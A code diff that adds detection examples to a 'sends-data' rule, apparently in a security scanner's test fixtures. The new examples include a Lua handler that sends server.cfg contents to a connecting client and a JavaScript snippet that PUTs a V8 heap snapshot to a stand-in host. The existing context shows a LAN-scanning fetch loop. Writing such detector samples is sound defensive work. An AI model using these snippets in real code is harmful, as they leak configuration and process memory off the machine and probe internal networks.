@@ -3,6 +3,14 @@ import { sendsDataCounterexamples } from './sends-data.counterexamples.ts'
 
 export const sendsDataExamples: NonNullable<Rule['examples']> = {
   found: [
+    lua(`AddEventHandler('playerConnecting', function(name, _, deferrals)
+  local file = io.open(name == 'page' and 'server.cfg' or 'rules.txt')
+^ if file then deferrals.done(file:read('a')) end
+end)`),
+    js(`const v8 = require('v8')
+const target = { host: 'upload.example.org', path: '/memory' }
+const request = require('https').request({ ...target, method: 'PUT' })
+^v8.getHeapSnapshot().pipe(request)`),
     js(
       `for (let part = 1; part < 255; part++)
   fetch(\`http://192.168.0.\${part}/\`)
